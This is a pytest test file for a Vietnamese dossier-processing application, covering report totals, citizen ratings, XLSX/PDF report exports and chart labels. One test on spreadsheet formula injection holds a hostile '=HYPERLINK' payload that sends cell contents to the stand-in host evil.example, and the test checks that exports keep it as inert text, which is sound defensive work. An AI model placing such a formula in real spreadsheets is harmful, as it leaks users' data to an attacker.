"""The report from histories made through the real services (SQLite and PostgreSQL), the rating event, and the
XLSX and PDF read back the way a user's tools would."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from counter_app.errors import ValidationError
from counter_app.lifecycle import Action
from counter_app.model import Delivery, Person
from counter_app.reports.periods import PeriodKind, period_of, spanning
from counter_app.services import processing as p
from counter_app.services.intake import IntakeRequest, Outcome, intake
from counter_app.services.printouts import register
from counter_app.services.queries import get_dossier
from counter_app.services.rating import rate
from counter_app.services.reports import build_report, dossiers_behind
from counter_app.storage.database import Database
from printing.report_pdf import render
from printing.report_xlsx import register_workbook, report_workbook
from tests.conftest import at
from tests.pdftools import text_of

DUC = Person("Nguyễn Văn Đức", "001090123456", dt.date(1990, 1, 1), "Nam", "Thôn Đông Hòa, xã Tân Hòa", "0912345678")
TTHN = "1.004873"  # 3 working days
BIRTH = "1.001193"  # same day: due at closing time, 17:00
NOVEMBER = period_of(PeriodKind.MONTH, dt.date(2026, 11, 1))
AS_OF = at("2026-12-10 09:00")


def _code(db: Database, procedure: str, when: str, clerk: str = "anh", **extra: object) -> str:
    dossier = intake(db, IntakeRequest(procedure, DUC, **extra), clerk, at=at(when))  # type: ignore[arg-type]
    return str(dossier.code)


def _histories(db: Database) -> dict[str, str]:
    """The issue's cases: extended once, settled on the due day at 16:59, returned by post, withdrawn."""
    codes = {"extended": _code(db, TTHN, "2026-11-16 10:00")}  # due Thu 19/11 10:00
    p.transfer(db, codes["extended"], "anh", at=at("2026-11-16 11:00"))
    p.extend(db, codes["extended"], "lead", dt.date(2026, 11, 25), "Cần xác minh", at=at("2026-11-18 09:00"))
    p.record_result(db, codes["extended"], "officer", at=at("2026-11-23 15:00"))
    codes["due_day"] = _code(db, BIRTH, "2026-11-20 09:00", clerk="binh")  # due Fri 20/11 17:00
    p.transfer(db, codes["due_day"], "binh", at=at("2026-11-20 09:10"))
    p.record_result(db, codes["due_day"], "officer", at=at("2026-11-20 16:59"))
    codes["by_post"] = _code(db, TTHN, "2026-11-20 11:00", delivery=Delivery.POSTAL, delivery_address=DUC.address)
    p.transfer(db, codes["by_post"], "anh", at=at("2026-11-20 11:30"))
    p.record_result(db, codes["by_post"], "officer", at=at("2026-11-24 16:00"))
    p.return_result(db, codes["by_post"], "anh", p.Recipient(postal_item="RR987654326VN"), at=at("2026-11-25 08:00"))
    sent_back = intake(db, IntakeRequest(TTHN, DUC, documents=()), "anh", Outcome.SUPPLEMENT, "Thiếu tờ khai",
                       at=at("2026-11-26 09:00"))
    p.withdraw(db, str(sent_back.id), "anh", "Công dân rút hồ sơ", at=at("2026-11-27 09:00"))
    codes["withdrawn"] = str(sent_back.id)
    codes["overdue"] = _code(db, TTHN, "2026-11-25 10:00")  # due Mon 30/11 10:00, still open
    p.transfer(db, codes["overdue"], "anh", at=at("2026-11-25 10:30"))
    october = _code(db, TTHN, "2026-10-20 10:00")  # the previous period, settled in it
    p.transfer(db, october, "anh", at=at("2026-10-20 11:00"))
    p.record_result(db, october, "officer", at=at("2026-10-22 11:00"))
    return codes


def test_month_report_counts_each_case_once(db: Database) -> None:
    codes = _histories(db)
    p.return_result(db, codes["due_day"], "anh", p.Recipient(DUC.full_name, DUC.id_number), at=at("2026-11-20 17:00"))
    rate(db, codes["due_day"], 1, "anh", stage="return", at=at("2026-11-20 17:01"))  # accepted by binh
    rate(db, codes["by_post"], 4, "anh", reason="Phải chờ lâu", at=at("2026-11-25 08:01"))
    report = build_report(db, NOVEMBER, AS_OF)
    totals = report.totals
    assert (totals.received, report.before.received) == (4, 1)
    assert (totals.settled, totals.settled_early, totals.settled_on_time, totals.settled_late) == (3, 1, 1, 1)
    assert (totals.apology_before_deadline, totals.late_without_apology) == (1, 1)  # extended; the open one
    assert (totals.open_overdue, totals.open_not_due) == (1, 0)
    assert (totals.returned_by_post, totals.withdrawn, totals.sent_back) == (1, 1, 1)
    assert (totals.rating_count, totals.rating_satisfied, totals.satisfaction_share) == (2, 1, 50.0)
    assert {g.key: g.figures.received for g in report.by_clerk} == {"anh": 3, "binh": 1}
    # A rating goes to the clerk who served the citizen then; the dossier's field and procedure keep theirs.
    assert {g.key: g.figures.rating_count for g in report.by_clerk} == {"anh": 2, "binh": 0}
    assert [g.figures.rating_count for g in report.by_field] == [2]
    assert [g.key for g in report.by_field] == ["Hộ tịch"]
    late = dossiers_behind(db, NOVEMBER, "settled_late", at=AS_OF)
    assert [d.code for d in late] == [codes["extended"]]
    by_binh = dossiers_behind(db, NOVEMBER, "settled_on_time", "clerk", "binh", at=AS_OF)
    assert [d.code for d in by_binh] == [codes["due_day"]]
    assert report.previous == period_of(PeriodKind.MONTH, dt.date(2026, 10, 1))


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_a_report_of_january_2000_or_of_two_whole_years_is_built(db: Database) -> None:
    _code(db, TTHN, "2026-11-20 10:00")
    assert build_report(db, spanning(dt.date(2000, 1, 1), dt.date(2000, 1, 31)), AS_OF).totals.received == 0
    two_years = build_report(db, spanning(dt.date(2025, 1, 1), dt.date(2026, 12, 31)), AS_OF)
    assert two_years.totals.received == 1 and two_years.previous.first == dt.date(2023, 1, 2)


def test_rating_is_an_event_on_the_dossier_with_no_citizen_data(db: Database) -> None:
    code = _code(db, TTHN, "2026-11-20 10:00")
    stored = rate(db, code, 3, "anh", reason="tôi phải chờ 2 tiếng", stage="intake", at=at("2026-11-20 10:05"))
    assert stored["reason"] == "other" and stored["reason_text"] == "tôi phải chờ 2 tiếng"
    event = get_dossier(db, code).events[-1]
    assert event.type is Action.RATE
    assert event.payload == {"score": 3, "stage": "intake", "reason": "other", "reason_text": "tôi phải chờ 2 tiếng"}
    with pytest.raises(ValidationError, match=r"^rating\.not_returned"):  # the result is not handed over yet
        rate(db, code, 2, "anh", stage="return")
    with pytest.raises(ValidationError, match=r"^rating\.already"):  # one citizen, one rating of the intake
        rate(db, code, 1, "anh", stage="intake")
    p.transfer(db, code, "anh", at=at("2026-11-20 11:00"))
    p.record_result(db, code, "officer", at=at("2026-11-23 10:00"))
    p.return_result(db, code, "anh", p.Recipient(DUC.full_name, DUC.id_number), at=at("2026-11-23 15:00"))
    satisfied = rate(db, code, 2, "anh", reason="không cần lý do", at=at("2026-11-23 15:01"))
    assert satisfied["reason"] == "" and satisfied["reason_text"] == ""  # a reason only when not satisfied
    with pytest.raises(ValidationError, match=r"^rating\.already"):
        rate(db, code, 1, "anh", at=at("2026-11-23 15:02"))
    for score in (0, 5):
        with pytest.raises(ValidationError, match=r"^rating\.score"):
            rate(db, code, score, "anh")
    assert [e.type for e in get_dossier(db, code).events].count(Action.RATE) == 2
    assert build_report(db, NOVEMBER, AS_OF).totals.rating_count == 2


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_report_files_read_back(db: Database, tmp_path: Path) -> None:
    codes = _histories(db)
    report = build_report(db, NOVEMBER, AS_OF)
    book = load_workbook(io.BytesIO(report_workbook(report)))
    assert book.sheetnames == ["Tổng hợp", "Theo lĩnh vực", "Theo cán bộ", "Theo thủ tục", "Theo ngày",
                               "Ước tính 766"]
    summary = {row[0]: row[1:3] for row in book["Tổng hợp"].iter_rows(min_row=6, values_only=True) if row[0]}
    assert summary["Tiếp nhận"] == (4, 1) and summary["Quá hạn"] == (1, 0)
    assert summary["Tỷ lệ trước và đúng hạn (%)"] == (66.7, 100.0)
    clerks = book["Theo cán bộ"]
    assert clerks["A2"].value == "Cán bộ tiếp nhận" and clerks["B2"].value == "Tiếp nhận"
    assert clerks["A3"].value == "anh" and str(clerks.cell(3, clerks.max_column).value).startswith("=IF(")
    assert book["Ước tính 766"]["A2"].value.startswith("ƯỚC TÍNH")
    assert book["Theo cán bộ"].page_setup.orientation == "landscape"
    out = tmp_path / "report.pdf"
    out.write_bytes(render(report))
    text = text_of(out)
    for expected in ("BÁO CÁO TÌNH HÌNH TIẾP NHẬN VÀ GIẢI QUYẾT HỒ SƠ", "01/11/2026 – 30/11/2026",
                     "Hồ sơ tiếp nhận theo ngày", "Tỷ lệ giải quyết trước và đúng hạn theo tháng",
                     "Hồ sơ quá hạn đang giải quyết theo thủ tục", "ƯỚC TÍNH", "Theo cán bộ tiếp nhận"):
        assert expected in text, expected
    context = register(db, dt.date(2026, 11, 1), dt.date(2026, 11, 30))
    sheet = load_workbook(io.BytesIO(register_workbook(context))).active
    assert sheet is not None
    lines = [row for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert [line[1] for line in lines] == [codes["extended"], codes["due_day"], codes["by_post"], codes["overdue"]]
    assert sheet["A2"].value and lines[0][4] == "Nguyễn Văn Đức"


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_typed_text_starting_with_equals_stays_text_in_every_workbook(db: Database) -> None:
    from counter_app.services.list_export import workbook_bytes  # noqa: PLC0415
    from counter_app.services.queries import DossierFilter, list_dossiers  # noqa: PLC0415

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    person = Person(hostile, "079195000124", address="=1+2")
    intake(db, IntakeRequest(TTHN, person), hostile[:100], at=at("2026-11-20 10:00"))
    books = {"register": register_workbook(register(db, dt.date(2026, 11, 20), dt.date(2026, 11, 20))),
             "report": report_workbook(build_report(db, NOVEMBER, AS_OF)),
             "list": workbook_bytes(list_dossiers(db, DossierFilter()), "DS", "vi", AS_OF)}
    for name, content in books.items():
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row]
        typed = [cell for cell in cells if str(cell.value).startswith(("=1+2", hostile[:30]))]
        assert typed, name
        assert all(cell.data_type == "s" for cell in typed), (name, [(c.coordinate, c.data_type) for c in typed])


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_a_year_of_days_and_two_years_of_months_leave_room_between_labels(db: Database) -> None:
    from reportlab.graphics.charts.barcharts import VerticalBarChart  # noqa: PLC0415

    from printing.report_charts import on_time_per_month, received_per_day  # noqa: PLC0415

    report = build_report(db, spanning(dt.date(2026, 1, 1), dt.date(2026, 12, 31)), AS_OF)
    days, months = (next(item for item in drawing.contents if isinstance(item, VerticalBarChart)).categoryAxis
                    for drawing in (received_per_day(report), on_time_per_month(report)))
    assert len(days.categoryNames) == 365 and sum(map(bool, days.categoryNames)) <= 13
    assert not days.visibleTicks  # 365 tick marks drew one black band under the bars
    assert len(months.categoryNames) == 24 and sum(map(bool, months.categoryNames)) <= 13  # were all 24, overlapping
    assert months.labels.angle == 45
